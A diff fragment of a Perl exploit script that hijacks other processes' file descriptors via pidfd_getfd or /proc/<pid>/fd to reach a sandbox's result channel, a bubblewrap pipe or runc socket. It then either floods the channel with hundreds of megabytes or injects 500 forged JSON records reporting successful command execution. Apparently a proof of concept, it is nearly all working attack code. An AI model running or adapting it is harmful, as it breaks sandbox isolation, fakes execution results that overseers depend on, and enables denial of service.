@@ -30,11 +30,13 @@ my $mine = session($$);
 my $forged = join "", map { qq({"id":$_,"ok":true,"result":{"exitCode":0,"signal":null,"stdout":"FORGED","stderr":"","isTimedOut":false,"isCancelled":false,"isTruncated":false,"durationMs":1,"isReplayed":false}}\n) } 1 .. 500;
 my ($grabbed, $flooded) = (0, 0);
 sub attack {
-  my ($fh) = @_;
+  my ($fh, $fd) = @_;
   return unless -p $fh || -S $fh; # the channel is a pipe (bubblewrap) or a unix socket (runc)
+  return if $mode eq "flood" && -p $fh && $fd != 1;
   $grabbed++;
   if ($mode eq "flood") {
     return if $flooded++;
+    # the stdout pipe (bubblewrap) or the socket (runc): writing /proc/<pid>/fd/0 would fill stdin
     my $chunk = "x" x (1 << 20);
     for (1 .. 640) { print $fh $chunk or last }
   } else { print $fh $forged }
@@ -48,9 +50,9 @@ for my $pid (@pids) {
   for my $fd (0 .. 31) {
     if ($pidfd >= 0) {
       my $got = syscall(438, $pidfd, $fd, 0);
-      if ($got >= 0 && open(my $fh, ">&=", $got)) { attack($fh) }
+      if ($got >= 0 && open(my $fh, ">&=", $got)) { attack($fh, $fd) }
     }
-    if (open(my $fh, ">", "/proc/$pid/fd/$fd")) { attack($fh) }
+    if (open(my $fh, ">", "/proc/$pid/fd/$fd")) { attack($fh, $fd) }
   }
   POSIX::close($pidfd) if $pidfd >= 0;
 }
